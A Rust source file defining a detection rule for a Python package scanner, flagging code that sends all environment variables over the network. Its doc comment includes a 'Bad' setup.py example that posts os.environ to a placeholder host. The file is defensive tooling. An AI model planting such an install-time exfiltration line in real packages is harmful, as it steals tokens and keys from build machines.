//! ## What it detects
//!
//! All environment variables at once, sent over the network.
//!
//! ## Why it is bad
//!
//! Tokens and keys of build machines lie in the environment; whoever takes all takes those.
//!
//! ## Innocent lookalikes
//!
//! A client that reads one variable and sends it to its own service does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, requests
//! requests.post('http://x.example.invalid', json=dict(os.environ))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, requests
//! requests.post('http://x.example.invalid', json=os.environ.get('LANG'))
//! ```

use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("environment-exfiltration"),
    title: "sends all environment variables out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let sends = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend));
        if sends && !call.callee.contains(".recv") && call.taint().has(Taint::ALL_VARIABLES) {
            hits.call(unit, call, format!("{} of all environment variables", call.callee));
        }
    }
}
